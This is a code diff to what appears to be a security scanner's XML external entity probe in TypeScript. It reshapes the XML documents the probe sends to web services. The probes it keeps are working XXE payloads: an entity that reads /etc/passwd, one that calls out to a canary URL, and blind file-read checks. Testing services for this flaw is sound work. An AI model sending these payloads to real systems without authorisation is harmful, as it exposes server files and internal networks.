@@ -4,6 +4,10 @@ import type { Probing } from '../probing.ts'
 import { isSuccess, type Reply } from '../reply.ts'
 import { draftOf, requestOf, withValue } from '../requests.ts'
 import { exchangesOf, trialOn } from '../trial-parts.ts'
+import { documentOfSource } from '../xml-names.ts'
+
+/** A document with a text in it. */
+type Shape = (text: string) => string
 
 /** The field of a form that takes XML, by what it took or is given as an example. */
 function xmlFieldOf({ body }: Operation): string | undefined {
@@ -46,18 +50,22 @@ export async function probeXmlEntities(probing: Probing): Promise<void> {
               body,
               mayFail: true,
             })
-      const plain = await send(`<?xml version="1.0"?><root><name>${word}</name></root>`)
-      const inside = await send(`<?xml version="1.0"?><!DOCTYPE root [<!ENTITY e "${word}x${word}">]><root><name>&e;</name></root>`)
-      const file = await send('<?xml version="1.0"?><!DOCTYPE root [<!ENTITY e SYSTEM "file:///etc/passwd">]><root><name>&e;</name></root>')
-      const outside = await send(
-        `<?xml version="1.0"?><!DOCTYPE root [<!ENTITY e SYSTEM "${canary.baseUrl}/${nonce}">]><root><name>&e;</name></root>`,
-      )
+      let shape: Shape = (text) => `<root><name>${text}</name></root>`
+      let plain = await send(`<?xml version="1.0"?>${shape(word)}`)
+      const told = [400, 422].includes(plain.status) ? await documentOfSource(probing.treeRoot) : null
+      const asTold = told === null ? null : await send(`<?xml version="1.0"?>${told(word)}`)
+      if (told !== null && asTold !== null && isSuccess(asTold)) {
+        shape = told
+        plain = asTold
+      }
+      const withEntity = (entity: string): string => `<?xml version="1.0"?><!DOCTYPE root [<!ENTITY e ${entity}>]>${shape('&e;')}`
+      const inside = await send(withEntity(`"${word}x${word}"`))
+      const file = await send(withEntity('SYSTEM "file:///etc/passwd"'))
+      const outside = await send(withEntity(`SYSTEM "${canary.baseUrl}/${nonce}"`))
       const hit = await canary.hitBy(nonce, 200)
-      const blind = hit === null && isSuccess(plain) ? await readsFiles(send, plain, file) : null
-      const isFile = /^root:[^:\n]*:0:0:/m.test(file.body)
-      const again = isFile
-        ? await send('<?xml version="1.0"?><!DOCTYPE root [<!ENTITY e SYSTEM "file:///etc/passwd">]><root><name>&e;</name></root>')
-        : null
+      const isFile = /(?:^|["'>\s])root:[^:\n]*:0:0:/m.test(file.body)
+      const blind = !isFile && hit === null && isSuccess(plain) ? await readsFiles(send, shape, plain, file) : null
+      const again = isFile ? await send(withEntity('SYSTEM "file:///etc/passwd"')) : null
       probing.trial(
         'xmlEntities',
         trialOn(operation, {
@@ -98,10 +106,10 @@ interface Stumble {
  * Whether the service opens the files that entities name, where no answer shows what is in them: a text is taken, and what stands in the
  * way of reading is refused twice, though not while nothing refers to it. Null where that tells nothing.
  */
-async function readsFiles(send: (body: string) => Promise<Reply>, plain: Reply, file: Reply): Promise<Stumble | null> {
+async function readsFiles(send: (body: string) => Promise<Reply>, shape: Shape, plain: Reply, file: Reply): Promise<Stumble | null> {
   if (file.status !== plain.status) return null
   const entity = (path: string, use: string): Promise<Reply> =>
-    send(`<?xml version="1.0"?><!DOCTYPE root [<!ENTITY e SYSTEM "file://${path}">]><root><name>${use}</name></root>`)
+    send(`<?xml version="1.0"?><!DOCTYPE root [<!ENTITY e SYSTEM "file://${path}">]>${shape(use)}`)
   const missing = await entity('/nonexistent/assay', '&e;')
   const isMissingTaken = missing.status === plain.status
   const [first, second] = isMissingTaken ? (['/bin/sh', '/bin/ls'] as const) : (['/nonexistent/assay', '/nonexistent/assay-2'] as const)
